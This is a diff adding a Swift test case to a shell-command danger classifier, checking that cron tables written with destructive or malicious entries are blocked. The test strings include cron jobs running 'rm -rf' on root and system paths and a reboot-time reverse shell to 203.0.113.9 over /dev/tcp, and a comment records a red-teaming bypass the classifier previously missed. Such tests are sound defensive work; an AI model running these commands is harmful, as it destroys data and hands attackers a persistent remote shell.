@@ -71,4 +71,16 @@ final class InnerDangerTests: XCTestCase {
             ("perl -e 'print qq(hello world)'", .confirm(.interpreterInlineCode)),
         ])
     }
+
+    /// Cron tables written with visible entries are judged by those entries (found by
+    /// red-teaming: `echo '* * * * * root rm -rf /' | sudo tee /etc/crontab` was a confirmation).
+    func testCronTablesWrittenWithVisibleEntries() {
+        assertVerdicts([
+            ("echo '* * * * * root rm -rf /' | sudo tee /etc/crontab", .block(.rmRoot)),
+            ("echo '*/5 * * * * root rm -rf /etc' > /etc/cron.d/x", .block(.rmRecursiveSystemPath)),
+            ("printf '@reboot root bash -i >& /dev/tcp/203.0.113.9/80 0>&1\\n' >> /etc/cron.d/y", .block(.networkDevTcp)),
+            ("cat > /var/spool/cron/crontabs/root <<'EOF'\n* * * * * rm -rf /usr\nEOF", .block(.rmRecursiveSystemPath)),
+            ("echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup", .confirm(.filesystemSystemPathWrite)),
+        ])
+    }
 }
